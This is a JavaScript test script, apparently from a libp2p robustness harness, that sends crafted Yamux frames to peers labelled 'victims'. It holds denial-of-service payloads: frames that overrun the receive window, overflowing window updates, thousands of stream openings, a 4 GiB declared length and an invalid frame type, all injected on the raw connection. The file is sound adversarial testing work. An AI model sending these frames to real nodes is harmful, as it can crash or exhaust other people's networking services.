// P3: frames of Yamux that broke other implementations: a first frame above the window, and windows that overflow.

import { yamux } from '@chainsafe/libp2p-yamux'
import { count, delay, perform, ready, stubborn, task } from './peer.mjs'

const DATA = 0
const WINDOW = 1
const SYN = 1

function header (type, flags, id, length) {
  const bytes = Buffer.alloc(12)
  bytes.writeUInt8(type, 1)
  bytes.writeUInt16BE(flags, 2)
  bytes.writeUInt32BE(id, 4)
  bytes.writeUInt32BE(length >>> 0, 8)
  return bytes
}

const CRIMES = [
  Buffer.concat([header(DATA, SYN, 1001, 262_145), Buffer.alloc(262_145)]),
  Buffer.concat([header(WINDOW, SYN, 1003, 0), header(WINDOW, 0, 1003, 0xffff_ffff), header(WINDOW, 0, 1003, 0xffff_ffff)]),
  Buffer.concat(Array.from({ length: 4_000 }, (_, place) => header(WINDOW, SYN, 1005 + 2 * place, 0))),
  header(DATA, SYN, 1007, 0xffff_ffff),
  Buffer.concat([header(9, 0xffff, 0, 0xffff_ffff), header(DATA, SYN, 0, 5)])
]
let next = 0

/** A muxer that also hands over the raw connection beneath it. */
function leaky () {
  const factory = (components) => {
    const inner = yamux({ enableKeepAlive: false })(components)
    const create = inner.createStreamMuxer.bind(inner)
    inner.createStreamMuxer = (raw) => {
      factory.raw = raw
      return create(raw)
    }
    return inner
  }
  return factory
}

async function one (victim) {
  const muxer = leaky()
  await stubborn(victim, async () => {
    muxer.raw.send(CRIMES[next++ % CRIMES.length])
    count('frames')
    await delay(100)
  }, { muxer })
}

await perform(async () => {
  ready()
  await Promise.all(task.victims.map(one))
})
